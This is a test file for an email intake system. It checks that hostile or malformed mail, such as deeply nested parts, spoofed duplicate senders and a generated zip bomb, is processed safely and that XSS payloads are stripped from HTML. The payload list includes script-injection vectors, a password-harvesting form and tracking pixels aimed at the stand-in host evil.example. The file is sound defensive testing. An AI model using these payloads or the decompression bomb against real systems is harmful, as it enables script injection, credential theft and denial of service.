import { deflateRawSync } from 'node:zlib'
import { describe, expect, test } from 'vitest'
import { testBrand } from '../../../test/brand.ts'
import { testWorld } from '../../../test/database.ts'
import { newId } from '../../platform/ids.ts'
import { receiveDelivery } from '../intake.ts'
import { deliveryIdentity } from './delivery-identity.ts'

const world = await testWorld()
const brand = await testBrand(world, 'support@aurora.example', { settings: { acknowledges: false } })

const head = 'From: Kim <kim@customer.example>\r\nTo: support@aurora.example\r\nSubject: Odd\r\n'
const html = (body: string) =>
  `${head}Message-ID: <${newId()}@customer.example>\r\nContent-Type: text/html; charset=utf-8\r\n\r\n${body}`

function nested(depth: number): string {
  const open = Array.from(
    { length: depth },
    (_, i) => `Content-Type: multipart/mixed; boundary=b${i}\r\n\r\n--b${i}\r\n`,
  )
  const close = Array.from({ length: depth }, (_, i) => `\r\n--b${depth - 1 - i}--`)
  return `${head}${open.join('')}Content-Type: text/plain\r\n\r\nAt the bottom.${close.join('')}\r\n`
}

function manyParts(count: number): string {
  const part = '--b\r\nContent-Type: text/plain\r\n\r\nA part.\r\n'
  return `${head}Content-Type: multipart/mixed; boundary=b\r\n\r\n${part.repeat(count)}--b--\r\n`
}

// A hundred megabytes of nothing in a hundred kilobytes: whoever unpacks it, pays.
function zipBomb(): string {
  const packed = deflateRawSync(Buffer.alloc(100 * 1024 * 1024)).toString('base64')
  return `${head}Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n\r\nSee the file.\r\n--b\r\nContent-Type: application/zip; name=a.zip\r\nContent-Transfer-Encoding: base64\r\n\r\n${packed.replace(/.{76}/g, '$&\r\n')}\r\n--b--\r\n`
}

const mails: [name: string, raw: string | Buffer, says: RegExp][] = [
  ['ten thousand parts', manyParts(10_000), /A part\./],
  ['a single line of 200 kB', `${head}\r\n${'word '.repeat(40_000)}`, /word word/],
  ['fifty levels of parts', nested(50), /./],
  ['NUL bytes', `${head}\r\nBefore\0after.`, /Before\s?after/],
  ['lines that end in CR only', `${head}\r\nOne\r\nTwo`.replaceAll('\r\n', '\r'), /One/],
  [
    'a charset nobody knows',
    `${head}Content-Type: text/plain; charset=x-martian\r\n\r\nKlaatu barada.`,
    /Klaatu barada/,
  ],
  ['no Message-ID', `${head}\r\nNo id.`, /No id/],
  ['two From headers', `From: Boss <boss@aurora.example>\r\n${head}\r\nPay at once.`, /Pay at once/],
  ['no From header', 'To: support@aurora.example\r\n\r\nNobody wrote this.', /Nobody wrote this/],
  [
    'a thousand recipients',
    `From: kim@customer.example\r\nTo: ${Array.from({ length: 1000 }, (_, i) => `person${i}@customer.example`).join(',\r\n ')}\r\n\r\nHello all.`,
    /Hello all/,
  ],
  ['an archive that would fill the disk', zipBomb(), /See the file/],
  ['no header at all', '\r\nJust words.', /Just words/],
  ['half a surrogate', `${head}Content-Type: text/plain; charset=utf-16le\r\n\r\n\ud800Hi`, /./],
  ['a date far in the future', `${head}Date: Fri, 31 Dec 9999 23:59:59 +0000\r\n\r\nTomorrow.`, /Tomorrow/],
]

async function arrives(raw: string | Buffer) {
  const bytes = Buffer.from(raw)
  const { deliveryId } = await receiveDelivery(brand.context, brand.channelId, {
    externalId: deliveryIdentity(bytes, newId()),
    raw: bytes,
    source: 'smtp',
    envelope: { from: 'kim@customer.example', to: [brand.address], remoteAddress: '127.0.0.1' },
  })
  await brand.settle()
  return brand.context.read(async (tx) => ({
    delivery: await tx.db
      .selectFrom('deliveries')
      .select(['state', 'reason'])
      .where('id', '=', deliveryId)
      .executeTakeFirstOrThrow(),
    message: await tx.db
      .selectFrom('messages')
      .select(['text', 'html', 'quotedText', 'conversationId', 'authentication'])
      .where('deliveryId', '=', deliveryId)
      .executeTakeFirst(),
  }))
}

describe('a mail with', () => {
  test.each(mails)('%s becomes a message that says what it says', async (_name, raw, says) => {
    const { delivery, message } = await arrives(raw)
    expect(delivery).toEqual({ state: 'processed', reason: null })
    expect(`${message?.text}${message?.quotedText ?? ''}`).toMatch(says)
  })

  test('a Message-ID used before and another text is another message', async () => {
    const id = `Message-ID: <${newId()}@customer.example>\r\n`
    const first = await arrives(`${id}${head}\r\nThe first text.`)
    const second = await arrives(`${id}${head}\r\nQuite another text.`)
    expect(first.message?.text).toContain('The first text.')
    expect(second.message?.text).toContain('Quite another text.')
  })

  test('two senders is believed to come from neither', async () => {
    const { message } = await arrives(`From: Boss <boss@aurora.example>\r\n${head}\r\nPay the other account.`)
    expect(message?.authentication).toMatchObject({ isFailed: true })
  })
})

const scripts = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><animate onbegin=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<style>@import url(https://evil.example/x.css);body{background:url(javascript:alert(1))}</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/pixel)">x</div>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<img src="https://evil.example/pixel.gif">',
]

test.each(scripts)('HTML with %s keeps its words and nothing that acts', async (script) => {
  const { message } = await arrives(html(`<p>Dear team</p>${script}<p>Kind regards</p>`))
  expect(message?.text).toContain('Dear team')
  // What stands in quotes inside a tag is text; `<` is escaped there.
  const kept = `${message?.html}`.replace(/\s(title|alt)="[^"]*"/g, '')
  expect(kept).not.toMatch(/<(script|iframe|object|embed|form|input|meta|base|link|style|svg|math)\b/i)
  expect(kept).not.toMatch(/\son\w+\s*=|javascript:|\ssrc="https?:|url\(|position:\s*fixed/i)
})
